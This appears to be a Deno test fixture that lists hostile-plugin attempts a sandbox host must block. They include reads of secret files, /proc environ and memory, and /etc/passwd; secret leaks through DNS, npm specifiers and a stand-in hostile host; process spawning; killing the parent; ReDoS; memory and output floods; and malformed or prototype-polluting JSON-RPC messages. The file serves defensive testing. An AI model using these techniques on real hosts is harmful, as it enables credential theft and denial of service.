// What a hostile plugin tries. Each answers what it got, or throws where it was stopped. It runs in Deno, as a plugin does.
import * as fs from "node:fs";

/** Computed, so that the loader does not resolve it with the bundle. */
const load = (specifier, options) => import([specifier][0], options);
const text = { with: { type: "text" } };
const json = { with: { type: "json" } };
const first = (value) => String(value).slice(0, 200);

/** Tried one after the other in one process, which must live on. `at` are the places that the test made. */
export const attacks = {
  "files: Deno.readTextFile": (at) => Deno.readTextFileSync(at.secretFile),
  "files: node:fs": (at) => fs.readFileSync(at.secretFile, "utf8"),
  "files: open": (at) => Deno.openSync(at.secretFile).rid,
  "files: the root": () => first([...Deno.readDirSync("/")].map((entry) => entry.name)),
  "files: node:fs of the root": () => first(fs.readdirSync("/")),
  "files: stat": (at) => Deno.statSync(at.secretFile).size,
  "files: a symlink beside the bundle": (at) => Deno.readTextFileSync(at.link),
  "files: a symlink by node:fs": (at) => fs.readFileSync(at.link, "utf8"),
  "files: make a symlink": (at) => Deno.symlinkSync(at.secretFile, `${at.link}-2`),
  "files: another plugin's bundle": (at) => first(Deno.readTextFileSync(at.neighbour)),
  "files: the boot": (at) => first(Deno.readTextFileSync(at.boot)),
  "files: /proc/self/environ": () => Deno.readTextFileSync("/proc/self/environ"),
  "files: the host's environment": () => Deno.readTextFileSync(`/proc/${Deno.ppid}/environ`),
  "files: the host's memory": () => Deno.openSync(`/proc/${Deno.ppid}/mem`).rid,
  "files: /dev/stdin": () => Deno.readTextFileSync("/dev/stdin"),
  "files: permission asked for": async () => granted(await Deno.permissions.request({ name: "read" })),

  "env: Deno.env.get": () => given(Deno.env.get("HOSTILE_SECRET")),
  "env: Deno.env.toObject": () => given(Deno.env.toObject().HOSTILE_SECRET),
  "env: process.env": async () => given((await load("node:process")).env.HOSTILE_SECRET),

  "imports: a text": async (at) => (await load(`file://${at.secretFile}`, text)).default,
  "imports: a text by its path": async (at) => (await load(at.secretFile, text)).default,
  "imports: a text by the symlink": async (at) => (await load(`file://${at.link}`, text)).default,
  "imports: JSON of the host": async (at) => first(JSON.stringify((await load(`file://${at.packageJson}`, json)).default)),
  "imports: a module of the host": async (at) => first(Object.keys(await load(`file://${at.module}`))),
  "imports: npm": async (at) => first(Object.keys(await load(`npm:leak-${at.secret}@1`))),
  "imports: jsr": async (at) => first(Object.keys(await load(`jsr:@leak/${at.secret}`))),
  "imports: http": async (at) => first(Object.keys(await load(`http://127.0.0.1:${at.port}/leak.js`))),
  "imports: require": async (at) => {
    const { createRequire } = await load("node:module");
    return first(JSON.stringify(createRequire(`file://${at.packageJson}`)(at.packageJson)));
  },
  "imports: blob": async (at) => {
    const source = `export default await import("file://${at.secretFile}", { with: { type: "text" } });`;
    const url = URL.createObjectURL(new Blob([source], { type: "text/javascript" }));
    return (await load(url)).default.default;
  },
  "imports: data": async (at) => {
    const source = `const read = () => Deno.readTextFileSync("${at.secretFile}"); export default read();`;
    return (await load(`data:text/javascript,${encodeURIComponent(source)}`)).default;
  },

  "sockets: fetch": async (at) => (await fetch(`http://127.0.0.1:${at.port}/leak`)).status,
  "sockets: fetch to a host that the plugin may reach by the host": async () =>
    (await fetch("https://api.hostile.example/")).status,
  "sockets: TCP": async (at) => (await Deno.connect({ hostname: "127.0.0.1", port: at.port })).localAddr,
  "sockets: node:http": (at) => byHttp("node:http", `http://127.0.0.1:${at.port}/leak`),
  "sockets: WebSocket": (at) =>
    new Promise((done, fail) => {
      const socket = new WebSocket(`ws://127.0.0.1:${at.port}/leak`);
      socket.onopen = () => done("open");
      socket.onerror = () => fail(new Error("refused"));
    }),
  "sockets: Unix": async (at) => (await Deno.connect({ transport: "unix", path: at.socket })).localAddr,
  "sockets: DNS": async (at) => (await Deno.resolveDns(`${at.secret}.example.com`, "A")).length,
  "sockets: node:dns": async (at) => (await (await load("node:dns/promises")).lookup(`${at.secret}.example.com`)).address,
  "sockets: permission asked for": async () => granted(await Deno.permissions.request({ name: "net" })),

  "processes: Deno.Command": async () => (await new Deno.Command("id").output()).code,
  "processes: node:child_process": async () => (await load("node:child_process")).execSync("id").toString(),
  "processes: FFI": () => Deno.dlopen("libc.so.6", { getpid: { parameters: [], result: "i32" } }).symbols.getpid(),
  "processes: addons": async () => (await load("node:process")).dlopen({ exports: {} }, "/tmp/x.node"),
  "processes: signal to the host": () => Deno.kill(Deno.ppid, "SIGKILL"),
  "processes: signal to the host by node": async () => (await load("node:process")).kill(Deno.ppid, "SIGKILL"),
  "processes: signal to everybody": () => Deno.kill(-1, "SIGKILL"),
  "processes: the inspector": async () => (await load("node:inspector")).open(0) ?? "open",
  "processes: user": () => Deno.uid(),
  "processes: host name": () => Deno.hostname(),
  "processes: interfaces": () => Deno.networkInterfaces().length,

  "disk: Deno.writeTextFile": (at) => Deno.writeTextFileSync(`${at.folder}/written`, "x"),
  "disk: node:fs": (at) => fs.writeFileSync(`${at.folder}/written`, "x"),
  "disk: append to the bundle": (at) => fs.appendFileSync(at.bundle, "// more"),
  "disk: remove the bundle": (at) => Deno.removeSync(at.bundle),
  "disk: a temporary file": () => Deno.makeTempFileSync(),
  "disk: SQLite": async (at) =>
    new (await load("node:sqlite")).DatabaseSync(`${at.folder}/written.db`).exec("create table t (x)") ?? "written",
  "disk: Cache API": async () => {
    const cache = await caches.open("fill");
    await cache.put("https://fill.example/", new Response("x".repeat(1_000_000)));
    return "written";
  },
  "disk: localStorage": () => localStorage.setItem("fill", "x".repeat(100_000)) ?? "written",
  "disk: KV": async () => (await Deno.openKv()).set(["fill"], "x"),
};

const given = (value) => {
  if (value === undefined) throw new Error("not there");
  return value;
};
const granted = ({ state }) => {
  if (state !== "granted") throw new Error(state);
  return state;
};
const byHttp = async (module, url) => {
  const http = await load(module);
  return new Promise((done, fail) => http.get(url, (answer) => done(answer.statusCode)).on("error", fail));
};

const line = (message) => {
  const bytes = new TextEncoder().encode(message);
  for (let at = 0; at < bytes.length; ) at += Deno.stdout.writeSync(bytes.subarray(at));
};
const forever = new Promise(() => {});

/** Written past the boot; the process must go on serving. */
export const noise = {
  "an empty line": () => line("\n"),
  "bytes that are no text": () => Deno.stdout.writeSync(new Uint8Array([0, 255, 254, 0, 10])),
  "half of a message": () => line('{"jsonrpc":"2.0","id":1,\n'),
  "a number": () => line("42\n"),
  "an answer that nobody asked for": () => line('{"jsonrpc":"2.0","id":987654321,"result":{}}\n'),
  "a second answer": () => line('{"jsonrpc":"2.0","id":1,"result":{"lie":true}}\n'),
  "deep brackets": () => line(`${"[".repeat(200_000)}\n`),
  "a deep object": () => line(`{"jsonrpc":"2.0","id":1,"result":${'{"a":'.repeat(5_000)}1${"}".repeat(5_000)}}\n`),
  "a member twice": () => line('{"jsonrpc":"2.0","id":1,"id":987654321,"result":{},"result":{"lie":true}}\n'),
  "ids that are no numbers": () =>
    line('{"jsonrpc":"2.0","id":{"toString":1},"result":1}\n{"jsonrpc":"2.0","id":1e400,"result":1}\n'),
  "an error that is an object of getters' names": () =>
    line(
      '{"jsonrpc":"2.0","id":987654321,"error":{"message":{"__proto__":1},"data":{"retry_after_ms":-1,"status":"x","code":{}}}}\n',
    ),
  "a prototype": () =>
    line(
      '{"jsonrpc":"2.0","method":"log","params":{"message":"x","fields":{"__proto__":{"polluted":true}}},"__proto__":{"polluted":true}}\n',
    ),
  "a method that there is none": () => line('{"jsonrpc":"2.0","id":"x","method":"constructor","params":{}}\n'),
  "a method of objects": () => line('{"jsonrpc":"2.0","id":"y","method":"__proto__","params":{}}\n'),
  "a capability that it was not given": () =>
    line('{"jsonrpc":"2.0","id":"z","method":"operations","params":{"id":"keys.create","input":{"name":"mine"}}}\n'),
  "the settings of another": () => line('{"jsonrpc":"2.0","id":"s","method":"settings","params":{"id":"bystander"}}\n'),
  "the state of somebody's use case": () => line('{"jsonrpc":"2.0","id":"u","method":"save","params":{"call":1,"state":{}}}\n'),
  "a cancel of nothing": () => line('{"jsonrpc":"2.0","method":"cancel","params":null}\n'),
  "a batch": () => line('[{"jsonrpc":"2.0","id":1,"method":"fetch"}]\n'),
};

/** What ends the process, or makes the host end it. */
export const deadly = {
  "a loop": () => {
    for (;;);
  },
  "a regular expression": () => /^(a+)+$/.test(`${"a".repeat(60)}!`),
  "no answer, and a loop in timers": () => {
    const spin = () => {
      const until = Date.now() + 10_000;
      while (Date.now() < until);
      setTimeout(spin);
    };
    setTimeout(spin);
    return forever;
  },
  "a getter that loops in its answer": () => ({
    get a() {
      for (;;);
    },
  }),
  "a proxy with endless members": () =>
    new Proxy(
      {},
      {
        ownKeys: () => Array.from({ length: 3_000_000 }, (_, i) => `k${i}`),
        getOwnPropertyDescriptor: () => ({ value: 1, enumerable: true, configurable: true }),
      },
    ),
  "an answer that contains itself through toJSON": () => {
    const endless = { toJSON: () => ({ endless }) };
    return endless;
  },
  // biome-ignore lint/suspicious/noThenProperty: that is the attack
  "a promise of its own that never answers": () => ({ then: () => {} }),
  "a storm of microtasks": () => {
    const again = () => Promise.resolve().then(again);
    again();
    return forever;
  },
  "two million timers and a loop": () => {
    for (let i = 0; i < 2_000_000; i++) setTimeout(() => {}, 1_000_000);
    for (;;);
  },
  "a heap that grows": () => {
    const kept = [];
    for (;;) kept.push(new Array(10_000).fill({}));
  },
  "array buffers": async () => {
    const kept = [];
    for (;;) {
      kept.push(new Uint8Array(8_000_000).fill(1));
      await new Promise((done) => setTimeout(done, 5));
    }
  },
  "WebAssembly memory": async () => {
    const kept = [];
    for (;;) {
      const memory = new WebAssembly.Memory({ initial: 256, maximum: 256 });
      new Uint8Array(memory.buffer).fill(1);
      kept.push(memory);
      await new Promise((done) => setTimeout(done, 5));
    }
  },
  "the flags of V8 and a heap": async () => {
    (await load("node:v8")).setFlagsFromString("--max-old-space-size=8000");
    const kept = [];
    for (;;) kept.push(new Array(10_000).fill({}));
  },
  "a line without an end": () => {
    for (;;) line("x".repeat(65_536));
  },
  "a flood of messages": () => {
    const many = '{"jsonrpc":"2.0","method":"log","params":{"message":"x"}}\n'.repeat(500);
    for (;;) line(many);
  },
  "a flood of answers": () => {
    const many = '{"jsonrpc":"2.0","id":1,"result":1}\n'.repeat(500);
    for (;;) line(many);
  },
  "a message of brackets": () => {
    line(`{"jsonrpc":"2.0","id":1,"result":[${"[],".repeat(1_300_000)}[]]}\n`);
    return forever;
  },
  "a flood of brackets": () => {
    const many = `{"jsonrpc":"2.0","method":"log","params":{"message":"x","fields":{"a":[${"[],".repeat(100_000)}[]]}}}\n`;
    for (;;) line(many);
  },
  "a flood on standard error": () => {
    for (;;) Deno.stderr.writeSync(new Uint8Array(65_536).fill(120));
  },
  "an answer of 64 MB": () => "x".repeat(64_000_000),
  "an exit": () => Deno.exit(0),
  "a rejection that nobody handles": () => {
    Promise.reject(new Error("unhandled"));
    return forever;
  },
  "a thrown error outside of a call": () => {
    setTimeout(() => {
      throw new Error("outside");
    });
    return forever;
  },
  "closed streams and a loop": () => {
    try {
      Deno.stdin.close();
      Deno.stdout.close();
    } catch {}
    for (;;);
  },
  listening: async () => {
    Deno.listen({ port: 0 });
    throw new Error("stopped");
  },
  UDP: async () => {
    Deno.listenDatagram({ port: 0, transport: "udp", hostname: "127.0.0.1" });
    throw new Error("stopped");
  },
  "a worker that loops": async () => {
    const url = URL.createObjectURL(new Blob(["for(;;);"], { type: "text/javascript" }));
    new Worker(url, { type: "module" });
    return forever;
  },
  "a worker with every permission": async () => {
    const url = URL.createObjectURL(new Blob(["postMessage(Deno.readTextFileSync('/etc/passwd'))"], { type: "text/javascript" }));
    const worker = new Worker(url, { type: "module", deno: { permissions: "inherit" } });
    return new Promise((done) => {
      worker.onmessage = ({ data }) => done(data);
    });
  },
};
